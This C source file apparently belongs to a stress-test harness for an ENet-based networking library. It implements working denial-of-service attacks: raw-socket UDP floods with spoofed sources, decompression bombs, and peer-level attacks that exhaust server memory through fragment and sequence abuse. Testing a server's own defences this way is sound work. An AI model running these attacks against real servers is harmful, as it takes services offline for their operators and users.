#include "attack/plain_attacks.h"

#include "attack/range_bomb.h"
#include "host/host.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MAXIMUM = ENET_PROTOCOL_MAXIMUM_MTU, PAUSE = 1000 /* us */, BURST = 3 /* ms of what is due */ };

static uint64_t random_state = 88172645463325252u;

static uint32_t next_random(void)
{
    random_state ^= random_state << 13;
    random_state ^= random_state >> 7;
    random_state ^= random_state << 17;
    return (uint32_t) (random_state >> 16);
}

static struct in_addr server_address;

int attack_find_server(const char *address)
{
    return inet_pton(AF_INET, address, &server_address) == 1 ? 0 : -1;
}

ENetAddress attack_server(void)
{
    uint8_t mapped[16] = {[10] = 0xff, [11] = 0xff};
    ENetAddress address = {.port = ATTACK_PORT};
    memcpy(mapped + 12, &server_address, sizeof server_address);
    memcpy(&address.host, mapped, sizeof mapped);
    return address;
}

e4j_compression_mode attack_compression(const char *name)
{
    return strcmp(name, "range-bombs") == 0  ? E4J_COMPRESS_RANGE_CODER
           : strcmp(name, "duplicates") == 0 ? E4J_COMPRESS_ZSTD
                                             : E4J_COMPRESS_NONE;
}

/* ---- Pace ---- */

static double began, lasts, per_second;
static volatile unsigned long *done;

static double seconds_now(void)
{
    struct timespec now;
    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double) now.tv_sec + (double) now.tv_nsec / 1e9;
}

/*
 * How many are due, after a pause; -1 when the time is over. An attacker that had to wait for the processor is late,
 * and catches up over several pauses: all at once would be a burst of this machine's making. The report has the rate.
 */
static long due(void)
{
    usleep(PAUSE);
    double passed = seconds_now() - began;
    double late = passed * per_second - (double) *done, most = per_second * BURST / 1000 + 1;
    return passed >= lasts ? -1 : late < most ? (long) late : (long) most;
}

/* ---- Forged sources ---- */

typedef struct {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t data[MAXIMUM];
} __attribute__((packed)) forged;

static size_t fill_connect(uint8_t *data)
{
    static const uint8_t connect[52] = {
        0x8f, 0xff, 0x12, 0x34, 0x82, 0xff, 0, 1, 0, 5, 0xff, 0xff, 0, 0, 5, 0x70, 0, 1, 0, 0, 0, 0, 0, 4, 0, 0, 0, 0,
        0, 0, 0, 0, 0, 0, 0x13, 0x88, 0, 0, 0, 2, 0, 0, 0, 2,
    };
    uint32_t id = next_random();
    memcpy(data, connect, sizeof connect);
    memcpy(data + 44, &id, sizeof id);
    return sizeof connect;
}

enum { FOR_ENET, FOR_US, BOMBS };
static uint8_t bombs[BOMBS][RANGE_BOMB];

/* The worst for ENet, which decompresses all of a stranger's datagram, and for who stops after a CONNECT, in turn. */
static size_t fill_bomb(uint8_t *data)
{
    static unsigned number;
    memcpy(data, (const uint8_t[]) {0xcf, 0xff, 0, 0}, 4);
    memcpy(data + 4, bombs[number++ % BOMBS], RANGE_BOMB);
    return 4 + RANGE_BOMB;
}

static int forge(size_t (*fill)(uint8_t *))
{
    static forged datagram;
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = server_address};
    if (fd < 0)
        return 1;
    for (long count; (count = due()) >= 0;) {
        for (; count > 0; count--, ++*done) {
            size_t length = fill(datagram.data) + sizeof datagram.udp;
            datagram.ip = (struct iphdr) {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                                          .saddr = htonl(10u << 24 | (next_random() & 0xffffff)),
                                          .daddr = to.sin_addr.s_addr,
                                          .tot_len = htons((uint16_t) (length + sizeof datagram.ip))};
            datagram.udp.source = htons((uint16_t) (1024 + next_random() % 60000));
            datagram.udp.dest = htons(ATTACK_PORT);
            datagram.udp.len = htons((uint16_t) length);
            datagram.udp.check = 0;
            if (sendto(fd, &datagram, length + sizeof datagram.ip, 0, (struct sockaddr *) &to, sizeof to) < 0)
                return 1;
        }
    }
    return 0;
}

/* ---- Connected peers ---- */

enum { PEERS_MOST = 300, PATIENCE = 3600 * 1000 /* ms, of our hosts */ };

static struct {
    e4j_host *host;
    ENetPeer *peer;
} attackers[PEERS_MOST], *attacker = attackers; /* all, and the one whose turn it is */
static uint8_t datagram[MAXIMUM];
static size_t used, most = 1400;

static void serve(void)
{
    static uint64_t memory[1 << 13];
    e4j_event_buffer events = {.memory = (uint8_t *) memory, .capacity = sizeof memory};
    e4j_host_service(attacker->host, 1, &events);
}

static int connect_peer(e4j_compression_mode compression)
{
    const ENetAddress server = attack_server();
    e4j_peer_name name;
    attacker->host = e4j_host_create(NULL, 1, 4, 0, 0);
    if (attacker->host == NULL || e4j_compress_install(attacker->host->enet, compression) != 0 ||
        e4j_host_connect(attacker->host, &server, 4, 0, &name) != 0)
        return 1;
    attacker->peer = e4j_host_peer(attacker->host, name);
    for (int i = 0; i < 2000 && attacker->peer->state != ENET_PEER_STATE_CONNECTED; i++) {
        serve();
        usleep(PAUSE);
    }
    return attacker->peer->state != ENET_PEER_STATE_CONNECTED;
}

static void send_datagram(void)
{
    enum { HEADER = 4 };
    const ENetCompressor *compressor = &attacker->host->enet->compressor;
    uint8_t packed[MAXIMUM];
    const ENetBuffer commands = {.data = datagram + HEADER, .dataLength = used - HEADER};
    if (used > 0 && compressor->context != NULL) {
        used = HEADER + compressor->compress(compressor->context, &commands, 1, commands.dataLength, packed,
                                             sizeof packed);
        memcpy(datagram + HEADER, packed, used - HEADER);
        datagram[0] |= ENET_PROTOCOL_HEADER_FLAG_COMPRESSED >> 8;
    }
    if (used > 0)
        e4j_host_socket_send(attacker->host, &attacker->peer->address, datagram, used);
    used = 0;
}

static void add(int number, uint8_t channel, size_t sequence, ENetProtocol command, size_t size, size_t data)
{
    if (used + size + data > most)
        send_datagram();
    if (used == 0) {
        const ENetPeer *peer = attacker->peer;
        unsigned id = peer->outgoingPeerID | (unsigned) peer->outgoingSessionID << ENET_PROTOCOL_HEADER_SESSION_SHIFT |
                      ENET_PROTOCOL_HEADER_FLAG_SENT_TIME;
        const enet_uint16 header[] = {ENET_HOST_TO_NET_16((uint16_t) id), 0};
        memcpy(datagram, header, sizeof header);
        used = sizeof header;
    }
    command.header = (ENetProtocolCommandHeader) {
        (uint8_t) number, channel, ENET_HOST_TO_NET_16((uint16_t) sequence)};
    memcpy(datagram + used, &command, size);
    memset(datagram + used + size, 'x', data);
    used += size + data;
}

/* Empty packets that wait for one that never comes. */
static void add_long_list(unsigned i)
{
    ENetProtocol command = {.sendUnreliable.unreliableSequenceNumber = ENET_HOST_TO_NET_16((uint16_t) (i % 65535 + 1))};
    add(ENET_PROTOCOL_COMMAND_SEND_UNRELIABLE, (uint8_t) (i % 2), 2 + i / 65535, command,
        sizeof command.sendUnreliable, 0);
}

/* Every second one of a long list, then those between. */
static void add_out_of_order(unsigned i)
{
    size_t sequence = i < 12000 ? 2 + 2 * i : 3 + i * 7919u % 12000 / 2 * 4;
    ENetProtocol command = {.sendReliable.dataLength = 0};
    add(ENET_PROTOCOL_COMMAND_SEND_RELIABLE, 2, sequence, command, sizeof command.sendReliable, 0);
}

static void add_fragment(int number, size_t sequence, size_t fragments, size_t total, size_t which, size_t offset)
{
    ENetProtocol command = {.sendFragment.startSequenceNumber = ENET_HOST_TO_NET_16((uint16_t) sequence)};
    command.sendFragment.dataLength = ENET_HOST_TO_NET_16(1);
    command.sendFragment.fragmentCount = ENET_HOST_TO_NET_32((uint32_t) fragments);
    command.sendFragment.totalLength = ENET_HOST_TO_NET_32((uint32_t) total);
    command.sendFragment.fragmentNumber = ENET_HOST_TO_NET_32((uint32_t) which);
    command.sendFragment.fragmentOffset = ENET_HOST_TO_NET_32((uint32_t) offset);
    add(number, 3, sequence, command, sizeof command.sendFragment, 1);
}

/* A megabyte of bits for a packet of one byte. */
static void add_bitmap(unsigned i)
{
    add_fragment(ENET_PROTOCOL_COMMAND_SEND_UNRELIABLE_FRAGMENT, 2 + i % 60000, 1 << 20, 1, 0, 0);
}

/* 32 MiB announced, and one byte of each page sent. */
static void add_announced(unsigned i)
{
    size_t page = i % 8192, packet = i / 8192 % 4;
    add_fragment(ENET_PROTOCOL_COMMAND_SEND_FRAGMENT, 2 + packet * 9000, 8192, 32 << 20, page, page * 4096);
}

/* The first fragment of one packet after another of 100,000 bytes. */
static void add_begun(unsigned i)
{
    add_fragment(ENET_PROTOCOL_COMMAND_SEND_FRAGMENT, 2 + i % 150 * 180, 180, 100000, 0, 0);
}

/* As many as fit into a datagram, of a packet that waits in the middle of a long list. */
static void add_duplicate(unsigned i)
{
    ENetProtocol command = {.sendReliable.dataLength = 0};
    add(ENET_PROTOCOL_COMMAND_SEND_RELIABLE, 2, i < 12000 ? 2 + 2 * i : 12002, command, sizeof command.sendReliable, 0);
}

/* The server sends it back reliably. */
static void add_echoed(unsigned i)
{
    ENetProtocol command = {.sendReliable.dataLength = ENET_HOST_TO_NET_16(1000)};
    add(ENET_PROTOCOL_COMMAND_SEND_RELIABLE, 3, 1 + i, command, sizeof command.sendReliable, 1000);
}

static void confirm(uint8_t channel, uint16_t sequence, uint16_t sent)
{
    ENetProtocol command = {.acknowledge.receivedReliableSequenceNumber = ENET_HOST_TO_NET_16(sequence)};
    command.acknowledge.receivedSentTime = sent;
    add(ENET_PROTOCOL_COMMAND_ACKNOWLEDGE, channel, sequence, command, sizeof command.acknowledge, 0);
}

static size_t data_of(const ENetProtocol *command)
{
    int number = command->header.command & ENET_PROTOCOL_COMMAND_MASK;
    return number == ENET_PROTOCOL_COMMAND_SEND_RELIABLE ? ENET_NET_TO_HOST_16(command->sendReliable.dataLength) : 0;
}

/* Confirms each command at its fifth arrival, instead of our host, which gets nothing. */
static int confirm_late(void *context, const ENetAddress *from, const void *data, size_t length)
{
    enum { HEADER = 4, ARRIVALS = 5 };
    static uint8_t arrivals[256][65536];
    (void) context, (void) from;
    for (size_t at = HEADER, size; at < length; at += size) {
        ENetProtocol command = {0};
        memcpy(&command, (const uint8_t *) data + at, length - at < sizeof command ? length - at : sizeof command);
        size = enet_protocol_command_size(command.header.command) + data_of(&command);
        uint16_t sequence = ENET_NET_TO_HOST_16(command.header.reliableSequenceNumber);
        if (size == 0)
            break;
        if (!(command.header.command & ENET_PROTOCOL_COMMAND_FLAG_ACKNOWLEDGE))
            continue;
        uint8_t *count = &arrivals[command.header.channelID][sequence];
        if (++*count < ARRIVALS)
            continue;
        *count = 0;
        uint16_t sent;
        memcpy(&sent, (const uint8_t *) data + 2, sizeof sent);
        confirm(command.header.channelID, sequence, sent);
    }
    return 1;
}

typedef struct {
    const char *name;
    void (*add)(unsigned); /* the peer's command of that number */
    unsigned peers, each; /* so many by one peer, then the next */
    size_t datagram;
    e4j_intercept hears;
} peer_attack;

static const peer_attack peer_attacks[] = {
    {"long-list", add_long_list, 1, 1, 1400, NULL},
    {"out-of-order", add_out_of_order, 1, 1, 1400, NULL},
    {"duplicates", add_duplicate, 1, 1, MAXIMUM, NULL},
    {"bitmaps", add_bitmap, 1, 1, 1400, NULL},
    {"announced", add_announced, 1, 1, 1400, NULL},
    {"announced-by-many", add_announced, 30, 8192, 1400, NULL},
    {"announced-by-crowd", add_announced, PEERS_MOST, 256, 1400, NULL},
    {"begun-by-many", add_begun, 30, 150, 1400, NULL},
    {"slow-acknowledger", add_echoed, 1, 1, 1400, confirm_late},
};

/* The peers then leave as they should. */
static int press(const peer_attack *attack)
{
    most = attack->datagram;
    for (unsigned i = 0; i < attack->peers; i++) {
        attacker = &attackers[i];
        if (connect_peer(attack_compression(attack->name)) != 0)
            return 1;
        e4j_host_set_intercept(attacker->host, attack->hears, NULL);
        enet_peer_timeout(attacker->peer, 0, PATIENCE, PATIENCE);
    }
    unsigned number = 0;
    for (long count; (count = due()) >= 0;) {
        for (; count > 0; count--, ++*done, number++) {
            if (number % attack->each == 0 && attack->peers > 1)
                send_datagram();
            attacker = &attackers[number / attack->each % attack->peers];
            attack->add(number / (attack->each * attack->peers) * attack->each + number % attack->each);
        }
        send_datagram();
        for (attacker = attackers; attacker < attackers + attack->peers; attacker++)
            serve();
        attacker = attackers;
    }
    int out = 0;
    for (attacker = attackers; attacker < attackers + attack->peers; attacker++) {
        e4j_peer_statistics last;
        e4j_host_set_intercept(attacker->host, NULL, NULL);
        out |= attacker->peer->state != ENET_PEER_STATE_CONNECTED;
        e4j_host_disconnect(attacker->host, attacker->peer, E4J_DISCONNECT_NOW, 0, &last);
        e4j_host_destroy(attacker->host);
    }
    return out;
}

void attack_prepare(const char *name)
{
    if (strcmp(name, "range-bombs") != 0)
        return;
    uint64_t whole = range_bomb(bombs[FOR_ENET], MAXIMUM), start = range_bomb(bombs[FOR_US], E4J_STRANGER_COMMANDS);
    printf("found: %.0f us to decompress all of a datagram, %.1f us for %d bytes of one\n", (double) whole / 1000,
           (double) start / 1000, E4J_STRANGER_COMMANDS);
    fflush(stdout);
}

int attack_run(const char *name, unsigned rate, unsigned seconds, volatile unsigned long *counter)
{
    done = counter;
    per_second = rate;
    lasts = seconds;
    began = seconds_now();
    if (strcmp(name, "calm") == 0)
        return 0;
    if (strcmp(name, "connects") == 0)
        return forge(fill_connect);
    if (strcmp(name, "range-bombs") == 0)
        return forge(fill_bomb);
    for (size_t i = 0; i < sizeof peer_attacks / sizeof *peer_attacks; i++)
        if (strcmp(name, peer_attacks[i].name) == 0)
            return press(&peer_attacks[i]);
    fprintf(stderr, "no attack %s\n", name);
    return 1;
}
